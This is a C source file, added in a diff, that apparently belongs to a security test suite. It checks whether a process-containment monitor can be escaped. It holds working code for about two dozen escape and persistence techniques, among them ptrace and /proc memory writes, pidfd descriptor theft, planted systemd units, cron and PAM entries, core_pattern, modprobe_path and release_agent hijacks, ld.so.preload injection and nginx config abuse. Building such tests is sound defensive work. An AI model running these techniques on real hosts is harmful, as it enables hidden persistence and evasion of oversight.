@@ -1,0 +1,447 @@
+/*
+ * Ways out of membership: to be no descendant of the login any more, to get into one who is none, or
+ * to have somebody else (a deputy) run something.
+ */
+#define _GNU_SOURCE
+#include "bypass.h"
+
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define SYSTEMCTL "/usr/bin/systemctl"
+#define UNIT "malassay-bypass.service"
+#define UNIT_TEXT "[Service]\nType=oneshot\nExecStart=" SELF " --prove\n"
+
+enum { PIDFD_OPEN = 434, PIDFD_GETFD = 438, SECONDS = 5 };
+
+extern volatile long ordered; /* proof.c */
+
+/* ---- not a descendant any more ---- */
+
+static enum outcome by_orphan(void) {
+  if (fork() == 0) {
+    if (fork() == 0) {
+      while (getppid() != 1) usleep(10000);
+      _exit(prove());
+    }
+    _exit(0);
+  }
+  wait(NULL);
+  return proven(SECONDS);
+}
+
+static enum outcome by_daemon(void) {
+  if (fork() == 0) {
+    setsid();
+    if (fork() == 0) {
+      (void)!chdir("/");
+      for (int fd = 0; fd < 64; fd++) close(fd);
+      execl(SELF, "daemon", "--prove", (char *)NULL);
+    }
+    _exit(0);
+  }
+  wait(NULL);
+  return proven(SECONDS);
+}
+
+/* Moves itself into the control group of a service that is no member. */
+static enum outcome by_cgroup(void) {
+  static const char group[] = "/sys/fs/cgroup/system.slice/nginx.service/cgroup.procs";
+  if (access(group, F_OK)) return absent("there is no control group of nginx.service");
+  pid_t child = fork();
+  if (child == 0) {
+    if (write_file(group, "0", 1, 0, 0)) _exit(errno);
+    execl(SELF, "moved", "--prove", (char *)NULL);
+    _exit(errno);
+  }
+  int status = 0;
+  waitpid(child, &status, 0);
+  if (has_proof(0)) return proven(0);
+  errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
+  return refused("move to another control group");
+}
+
+static enum outcome by_namespaces(void) {
+  pid_t child = fork();
+  if (child == 0) {
+    if (unshare(CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWIPC | CLONE_NEWUTS | CLONE_NEWCGROUP))
+      _exit(errno);
+    child = fork();
+    if (child == 0) _exit(prove());
+    waitpid(child, NULL, 0);
+    _exit(0);
+  }
+  int status = 0;
+  waitpid(child, &status, 0);
+  if (has_proof(0)) return proven(0);
+  errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
+  return refused("new namespaces");
+}
+
+/* ---- into one who is no member ---- */
+
+/* A service of the image that does nothing (stand_by), and is no member as it was there before. */
+static pid_t bystander(void) {
+  static const char *const start[] = {SYSTEMCTL, "restart", "malassay-bystander.service", NULL};
+  char id[16];
+  unlink(BYSTANDER_ID);
+  if (access(SYSTEMCTL, F_OK)) return 0;
+  run(start);
+  for (int tries = 0; tries < 100 && access(BYSTANDER_ID, F_OK); tries++) usleep(50000);
+  return read_text(BYSTANDER_ID, id, sizeof id) > 0 ? atoi(id) : 0;
+}
+
+static enum outcome nobody(void) { return absent("no bystander can be started"); }
+
+static enum outcome by_ptrace(void) {
+  pid_t other = bystander();
+  if (other <= 0) return nobody();
+  if (ptrace(PTRACE_ATTACH, other, 0, 0)) return refused("ptrace");
+  waitpid(other, NULL, 0);
+  if (ptrace(PTRACE_POKEDATA, other, (void *)&ordered, (void *)1)) return refused("write by ptrace");
+  ptrace(PTRACE_DETACH, other, 0, 0);
+  return proven(SECONDS);
+}
+
+static enum outcome by_memory(void) {
+  char path[64];
+  long one = 1;
+  pid_t other = bystander();
+  if (other <= 0) return nobody();
+  snprintf(path, sizeof path, "/proc/%d/mem", (int)other);
+  int fd = open(path, O_WRONLY | O_CLOEXEC);
+  if (fd < 0) return refused("open another process' memory");
+  if (pwrite64(fd, &one, sizeof one, (off64_t)(uintptr_t)&ordered) != sizeof one)
+    return refused("write to another process' memory");
+  close(fd);
+  return proven(SECONDS);
+}
+
+static enum outcome by_vm_write(void) {
+  long one = 1;
+  struct iovec here = {&one, sizeof one}, there = {(void *)&ordered, sizeof one};
+  pid_t other = bystander();
+  if (other <= 0) return nobody();
+  if (process_vm_writev(other, &here, 1, &there, 1, 0) != sizeof one)
+    return refused("process_vm_writev");
+  return proven(SECONDS);
+}
+
+/* Another's descriptor of an executable that is open for writing: the first after the standard ones. */
+static enum outcome by_descriptor(void) {
+  pid_t other = bystander();
+  if (other <= 0) return nobody();
+  int process = (int)syscall(PIDFD_OPEN, other, 0);
+  if (process < 0) return refused("pidfd_open");
+  int fd = (int)syscall(PIDFD_GETFD, process, 3, 0);
+  if (fd < 0) return refused("pidfd_getfd");
+  if (ftruncate(fd, 0)) return refused("truncate by another's descriptor");
+  if (pwrite(fd, payload, payload_size, 0) != (ssize_t)payload_size)
+    return refused("write by another's descriptor");
+  close(fd);
+  kill(other, SIGKILL); /* what is open for writing is not executed */
+  while (kill(other, 0) == 0) usleep(10000);
+  return runs(TARGETS "pidfd-getfd");
+}
+
+/* ---- deputies: systemd ---- */
+
+static enum outcome started(void) {
+  static const char *const reload[] = {SYSTEMCTL, "daemon-reload", NULL};
+  static const char *const start[] = {SYSTEMCTL, "start", UNIT, NULL};
+  run(reload);
+  run(start);
+  return proven(1);
+}
+
+static enum outcome no_systemd(void) { return absent("there is no systemd"); }
+
+static enum outcome unit_in(const char *path) {
+  if (access(SYSTEMCTL, F_OK)) return no_systemd();
+  if (write_text(path, UNIT_TEXT)) return refused("write a unit");
+  return started();
+}
+
+static enum outcome by_unit(void) { return unit_in("/etc/systemd/system/" UNIT); }
+
+static enum outcome by_unit_in_run(void) {
+  mkdir("/run/systemd/system", 0755);
+  return unit_in("/run/systemd/system/" UNIT);
+}
+
+static enum outcome by_renamed_unit(void) {
+  if (access(SYSTEMCTL, F_OK)) return no_systemd();
+  if (write_text("/etc/" UNIT, UNIT_TEXT)) return refused("write");
+  if (rename("/etc/" UNIT, "/etc/systemd/system/" UNIT)) return refused("rename a file to a unit");
+  return started();
+}
+
+static enum outcome by_linked_unit(void) {
+  static const char *const link[] = {SYSTEMCTL, "link", OWN UNIT, NULL};
+  if (access(SYSTEMCTL, F_OK)) return no_systemd();
+  if (write_text(OWN UNIT, UNIT_TEXT)) return refused("write");
+  run(link);
+  return started();
+}
+
+#define DROP_INS "/etc/systemd/system/malassay-bystander.service.d"
+
+/* More to be run by a unit that was there before. */
+static enum outcome by_drop_in(void) {
+  static const char text[] = "[Service]\nExecStartPre=" SELF " --prove\n";
+  static const char *const reload[] = {SYSTEMCTL, "daemon-reload", NULL};
+  static const char *const start[] = {SYSTEMCTL, "restart", "malassay-bystander.service", NULL};
+  if (access(SYSTEMCTL, F_OK)) return no_systemd();
+  if (mkdir(DROP_INS, 0755) && errno != EEXIST) return refused("make a folder of a unit");
+  if (write_text(DROP_INS "/more.conf", text))
+    return refused("write a part of a unit");
+  run(reload);
+  run(start);
+  return proven(1);
+}
+
+static enum outcome by_systemd_run(void) {
+  static const char *const words[] = {"/usr/bin/systemd-run", "-q", SELF, "--prove", NULL};
+  if (access(words[0], F_OK)) return absent("there is no systemd-run");
+  if (run(words) < 0) return refused("systemd-run");
+  return proven(SECONDS);
+}
+
+/* ---- other deputies ---- */
+
+/* cron looks at its tables at the full minute: so it is made to be some seconds before that one. */
+static enum outcome cron_at(int minute) {
+  static const char *const start[] = {SYSTEMCTL, "restart", "cron.service", NULL};
+  struct timespec at;
+  clock_gettime(CLOCK_REALTIME, &at);
+  int period = minute < 0 ? 60 : 3600, before = (minute < 0 ? period : minute * 60) - 6;
+  at.tv_sec += (before + period - at.tv_sec % period) % period;
+  if (clock_settime(CLOCK_REALTIME, &at)) return refused("set the clock");
+  if (run(start)) return closed("cron does not start");
+  return proven(15);
+}
+
+static int has_no_cron(void) { return access("/usr/sbin/cron", F_OK); }
+
+static enum outcome no_cron(void) { return absent("there is no cron"); }
+
+#define TABLE "/etc/cron.d/malassay-bypass"
+#define ENTRY "* * * * * root " SELF " --prove"
+
+static enum outcome by_cron(void) {
+  if (has_no_cron()) return no_cron();
+  if (write_text(TABLE, ENTRY "\n")) return refused("write a table of cron");
+  return cron_at(-1);
+}
+
+/* What cron does for every entry, also for those that were there: /etc/crontab has one at 17 past. */
+static enum outcome by_pam(void) {
+  static const char line[] = "session optional pam_exec.so " SELF " --prove\n";
+  if (has_no_cron()) return no_cron();
+  if (write_file("/etc/pam.d/cron", line, strlen(line), O_APPEND, 0))
+    return refused("write what PAM does for cron");
+  return cron_at(17);
+}
+
+/* Writes to a file of the kernel, and afterwards what was there. */
+static int swap(const char *path, const char *text, char *old, size_t room) {
+  read_text(path, old, room);
+  return write_file(path, text, strlen(text), 0, 0);
+}
+
+static enum outcome by_core_pattern(void) {
+  static const char pattern[] = "/proc/sys/kernel/core_pattern";
+  char old[256];
+  if (swap(pattern, "|" SELF " --prove", old, sizeof old)) return refused("write core_pattern");
+  pid_t child = fork();
+  if (child == 0) {
+    struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
+    setrlimit(RLIMIT_CORE, &any);
+    abort();
+  }
+  waitpid(child, NULL, 0);
+  enum outcome outcome = proven(SECONDS);
+  write_file(pattern, old, strlen(old), 0, 0);
+  return outcome;
+}
+
+/* The kernel calls it "modprobe -q -- NAME": main takes that for --prove. */
+static enum outcome by_modprobe(void) {
+  static const char modprobe[] = "/proc/sys/kernel/modprobe";
+  char old[256];
+  if (access(modprobe, F_OK)) return absent("the kernel loads no modules");
+  if (swap(modprobe, SELF, old, sizeof old)) return refused("write the path of modprobe");
+  int fd = socket(AF_X25, SOCK_SEQPACKET, 0); /* which it has no module for yet */
+  if (fd >= 0) close(fd);
+  enum outcome outcome = fd >= 0 ? absent("the kernel misses no module") : proven(SECONDS);
+  write_file(modprobe, old, strlen(old), 0, 0);
+  return outcome;
+}
+
+/* The kernel calls it with the path of an empty group: main takes that for --prove. */
+static enum outcome by_release_agent(void) {
+  mkdir(OWN "groups", 0755);
+  if (mount("none", OWN "groups", "cgroup", 0, "none,name=malassay"))
+    return errno == ENODEV || errno == EINVAL ? absent("the kernel has no control groups of version 1")
+                                              : refused("mount control groups of version 1");
+  enum outcome outcome = CLOSED;
+  mkdir(OWN "groups/one", 0755);
+  if (write_file(OWN "groups/release_agent", SELF, strlen(SELF), 0, 0) ||
+      write_file(OWN "groups/one/notify_on_release", "1", 1, 0, 0)) {
+    outcome = refused("name a release agent");
+  } else {
+    pid_t child = fork();
+    if (child == 0) _exit(write_file(OWN "groups/one/cgroup.procs", "0", 1, 0, 0) != 0);
+    waitpid(child, NULL, 0);
+    outcome = proven(SECONDS);
+  }
+  rmdir(OWN "groups/one");
+  umount2(OWN "groups", MNT_DETACH);
+  return outcome;
+}
+
+static enum outcome by_udev(void) {
+  static const char rule[] = "/etc/udev/rules.d/99-malassay-bypass.rules";
+  static const char *const reload[] = {"/usr/bin/udevadm", "control", "--reload", NULL};
+  static const char *const trigger[] = {"/usr/bin/udevadm", "trigger", "--action=change",
+                                        "/sys/devices/virtual/mem/null", NULL};
+  if (access(reload[0], F_OK)) return absent("there is no udev");
+  if (write_text(rule, "ACTION==\"change\", KERNEL==\"null\", RUN+=\"" SELF " --prove\"\n"))
+    return refused("write a rule of udev");
+  run(reload);
+  run(trigger);
+  return proven(SECONDS);
+}
+
+/* Everything that is executed from then on loads it: also what is no member. */
+static enum outcome by_ld_so_preload(void) {
+  static const char *const start[] = {SYSTEMCTL, "restart", "nginx.service", NULL};
+  static const char list[] = "/etc/ld.so.preload";
+  if (access("/usr/sbin/nginx", F_OK)) return absent("there is no nginx to be started anew");
+  if (write_file(OWN "object", preload, preload_size, O_CREAT, 0644)) return refused("write");
+  if (write_text(list, OWN "object\n")) return refused("write /etc/ld.so.preload");
+  run(start);
+  unlink(list);
+  return proven(SECONDS);
+}
+
+/* What systemd hands to all services that it starts. */
+static enum outcome by_environment(void) {
+  static const char *const set[] = {SYSTEMCTL, "set-environment", "LD_PRELOAD=" OWN "object", NULL};
+  static const char *const unset[] = {SYSTEMCTL, "unset-environment", "LD_PRELOAD", NULL};
+  static const char *const start[] = {SYSTEMCTL, "restart", "nginx.service", NULL};
+  if (access("/usr/sbin/nginx", F_OK)) return absent("there is no nginx to be started anew");
+  if (write_file(OWN "object", preload, preload_size, O_CREAT, 0644)) return refused("write");
+  if (run(set)) return closed("systemctl set-environment failed");
+  run(start);
+  enum outcome outcome = proven(SECONDS);
+  run(unset);
+  return outcome;
+}
+
+/* ---- a service that does what its setting says ---- */
+
+static char setting[1 << 16];
+
+static pid_t nginx(void) {
+  char id[16];
+  return read_text("/run/nginx.pid", id, sizeof id) > 0 ? atoi(id) : 0;
+}
+
+/* Puts a line into nginx' setting in the place of another (of the beginning, without one). */
+static int set_nginx(const char *in_place_of, const char *line) {
+  static char text[sizeof setting + 1024];
+  if (read_text("/etc/nginx/nginx.conf", setting, sizeof setting) <= 0) return -1;
+  const char *at = in_place_of ? strstr(setting, in_place_of) : setting;
+  if (!at) {
+    errno = ENOENT;
+    return -1;
+  }
+  snprintf(text, sizeof text, "%.*s%s%s", (int)(at - setting), setting, line,
+           at + (in_place_of ? strlen(in_place_of) : 0));
+  return write_text("/etc/nginx/nginx.conf", text);
+}
+
+static enum outcome by_service(void) {
+  if (!nginx()) return absent("nginx does not run");
+  if (write_file("/etc/nginx/malassay-object", preload, preload_size, O_CREAT, 0644))
+    return refused("write");
+  if (set_nginx(NULL, "load_module /etc/nginx/malassay-object;\n")) return refused("write nginx.conf");
+  kill(nginx(), SIGHUP);
+  enum outcome outcome = proven(SECONDS);
+  write_text("/etc/nginx/nginx.conf", setting);
+  return outcome;
+}
+
+static void ask_nginx(void) {
+  struct sockaddr_in there = {.sin_family = AF_INET,
+                              .sin_port = htons(80),
+                              .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+  char answer[512];
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (connect(fd, (struct sockaddr *)&there, sizeof there) == 0 &&
+      write(fd, "GET / HTTP/1.0\r\n\r\n", 18) == 18)
+    while (read(fd, answer, sizeof answer) > 0) continue;
+  close(fd);
+}
+
+/* Its log is a table of cron. */
+static enum outcome by_service_log(void) {
+  if (has_no_cron()) return no_cron();
+  if (!nginx()) return absent("nginx does not run");
+  if (set_nginx("access_log off;", "log_format table escape=none '" ENTRY "';\n"
+                                   "access_log " TABLE " table;"))
+    return refused("write nginx.conf");
+  kill(nginx(), SIGHUP);
+  for (int tries = 0; tries < 60 && access(TABLE, F_OK); tries++) usleep(50000);
+  sleep(1); /* until a new worker answers */
+  ask_nginx();
+  enum outcome outcome = cron_at(-1);
+  write_text("/etc/nginx/nginx.conf", setting);
+  return outcome;
+}
+
+const struct bypass MEMBERSHIPS[] = {
+    {"orphan", "a process whose parents have ended", by_orphan},
+    {"daemon", "a daemon: a session of its own, no parents, another program", by_daemon},
+    {"cgroup", "a process that moves to the control group of a service", by_cgroup},
+    {"namespaces", "a process in new namespaces", by_namespaces},
+    {"ptrace", "another process is traced, and its memory written", by_ptrace},
+    {"proc-mem", "another process' memory is written by /proc", by_memory},
+    {"process-vm-writev", "another process' memory is written by process_vm_writev", by_vm_write},
+    {"pidfd-getfd", "another process' descriptor of an executable is taken", by_descriptor},
+    {"systemd-run", "a unit without a file, by systemd-run", by_systemd_run},
+    {"unit", "a unit in /etc/systemd/system", by_unit},
+    {"unit-in-run", "a unit in /run/systemd/system", by_unit_in_run},
+    {"unit-renamed", "a file that is renamed to a unit", by_renamed_unit},
+    {"unit-linked", "a unit elsewhere, by systemctl link", by_linked_unit},
+    {"unit-drop-in", "a command that is added to a unit that was there", by_drop_in},
+    {"cron", "a table of cron", by_cron},
+    {"pam-cron", "a program that PAM runs for entries of cron that were there", by_pam},
+    {"core-pattern", "a program for core dumps in core_pattern", by_core_pattern},
+    {"modprobe-path", "a program for the kernel to load modules with", by_modprobe},
+    {"release-agent", "a program for the kernel to tell of empty control groups", by_release_agent},
+    {"udev-rule", "a rule of udev", by_udev},
+    {"ld-so-preload", "a written shared object in /etc/ld.so.preload", by_ld_so_preload},
+    {"systemd-environment", "a written shared object, by the environment of services", by_environment},
+    {"service-module", "a written module, loaded by nginx as its setting says", by_service},
+    {"service-log", "a log of nginx that is a table of cron, as its setting says", by_service_log},
+    {NULL, NULL, NULL}};
